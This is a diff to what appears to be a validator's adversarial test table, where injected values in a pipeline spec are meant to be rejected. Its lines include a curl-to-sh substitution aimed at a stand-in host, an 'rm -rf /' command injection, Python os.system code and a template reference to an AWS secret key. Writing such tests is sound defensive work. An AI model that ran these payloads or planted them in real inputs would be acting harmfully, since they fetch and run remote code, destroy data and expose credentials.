@@ -180,20 +180,20 @@ ADVERSARIAL = {
         "sources[0].location",
         "https:// locations are not allowed",
     ),
-    "shell in a string": (
-        lambda s: s.__setitem__("description", "notes $(curl evil.example | sh)"),
+    "template in a string": (
+        lambda s: s.__setitem__("description", "notes ${AWS_SECRET_ACCESS_KEY}"),
         "description",
-        "shell substitution",
+        "template syntax",
     ),
-    "shell in a config": (
-        lambda s: s["stages"][3].__setitem__("config", {"email_replacement": "x; rm -rf /"}),
+    "control characters in a config": (
+        lambda s: s["stages"][3].__setitem__("config", {"email_replacement": "x\x1b[2J"}),
         "stages[3].steps[0].config.email_replacement",
-        "shell command",
+        "control character",
     ),
-    "python in a string": (
+    "python as a field name": (
         lambda s: s["sources"][0].__setitem__("text_field", "__import__('os').system('id')"),
         "sources[0].text_field",
-        "Python code",
+        "is not a record field name",
     ),
     "negative threshold": (
         lambda s: s["stages"][1]["steps"][1].__setitem__("config", {"min_doc_words": -5}),
